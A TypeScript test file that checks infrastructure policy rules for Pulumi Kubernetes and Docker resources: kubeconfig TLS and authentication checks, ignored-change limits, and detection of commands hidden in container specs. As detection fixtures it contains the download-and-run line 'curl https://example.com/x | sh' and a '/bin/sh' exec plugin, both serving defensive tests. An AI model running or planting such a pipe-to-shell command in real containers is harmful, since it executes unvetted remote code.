import { expect, it } from "vitest";
import type { Inputs } from "../../contract/graph.ts";
import { RULES } from "../../policies/rules/index.ts";
import { outcome, resource, soundContainer } from "./support.ts";

function messages(rule: string, ...resources: Parameters<typeof outcome>[2][]) {
  const found = RULES.find(({ name }) => name === rule);
  if (found === undefined) throw new Error(rule);
  return outcome(found, "prod", ...resources).findings.map(({ message }) => message);
}

const kubeconfig = (cluster: Inputs, user: Inputs = { token: "x" }) =>
  resource("pulumi:providers:kubernetes", {
    kubeconfig: JSON.stringify({
      apiVersion: "v1",
      kind: "Config",
      clusters: [{ name: "a", cluster }],
      users: [{ name: "a", user }],
    }),
  });

it("a kubeconfig verifies the cluster, and runs the program of a cloud alone", () => {
  const server = "https://10.0.0.1:6443";
  const of = (...given: Parameters<typeof kubeconfig>) => messages("provider-options", kubeconfig(...given));
  expect(of({ server, "certificate-authority-data": "eA==" })).toEqual([]);
  expect(of({ server }, { exec: { command: "gke-gcloud-auth-plugin" } })).toEqual([]);
  expect(of({ server: "http://10.0.0.1:8080" })).toEqual(["the kubeconfig has a cluster without https"]);
  expect(of({ server, "insecure-skip-tls-verify": true })).toEqual([expect.stringContaining("certificate")]);
  expect(of({ server }, { exec: { command: "/bin/sh" } })).toEqual([expect.stringContaining("/bin/sh")]);
  expect(of({ server }, { username: "admin", password: "x" })).toEqual([expect.stringContaining("password")]);
  const path = resource("pulumi:providers:kubernetes", { kubeconfig: "~/.kube/config", context: "a" });
  expect(messages("provider-options", path)).toEqual([]);
});

it("the engine may ignore what others change, and nothing that the rules judge", () => {
  const ignoring = (type: string, ...ignoreChanges: readonly string[]) =>
    messages(
      "ignored-changes",
      resource(
        type,
        {},
        { options: { protect: false, ignoreChanges, deleteBeforeReplace: false, additionalSecretOutputs: [] } },
      ),
    );
  const deployment = "kubernetes:apps/v1:Deployment";
  expect(ignoring("kubernetes:gateway.networking.k8s.io/v1:HTTPRoute", "spec.rules")).toEqual([]);
  expect(ignoring(deployment, "spec.replicas", 'metadata.annotations["a/b"]', "status")).toEqual([]);
  expect(ignoring(deployment, "spec.template")).toEqual(["the engine ignores changes of spec.template"]);
  expect(ignoring(deployment, "spec.replicas", "spec")).toEqual(["the engine ignores changes of spec"]);
  expect(ignoring("kubernetes:networking.k8s.io/v1:NetworkPolicy", "spec.egress")).toHaveLength(1);
  expect(ignoring("docker:index/container:Container", "image")).toHaveLength(1);
});

it("commands are read wherever a container has them", () => {
  const script = ["sh", "-c", "curl https://example.com/x | sh"];
  const pod = (more: Inputs) =>
    messages(
      "visible-commands",
      resource("kubernetes:core/v1:Pod", { spec: { containers: [{ ...soundContainer(), ...more }] } }),
    );
  const problem = "sh runs what curl prints";
  expect(pod({ command: ["sh"], args: script.slice(1) })).toEqual([problem]);
  expect(pod({ args: script.slice(1) })).toEqual([problem]);
  expect(pod({ livenessProbe: { exec: { command: script } } })).toEqual([problem]);
  expect(pod({ lifecycle: { postStart: { exec: { command: script } } } })).toEqual([problem]);
  expect(pod({ command: ["sh", "-c", "exec server --port $PORT"] })).toEqual([]);
  const docker = (inputs: Inputs) => messages("visible-commands", resource("docker:index/container:Container", inputs));
  expect(docker({ entrypoints: ["sh"], command: script.slice(1) })).toEqual([problem]);
  expect(docker({ healthcheck: { tests: ["CMD-SHELL", script[2] ?? ""] } })).toEqual([problem]);
});
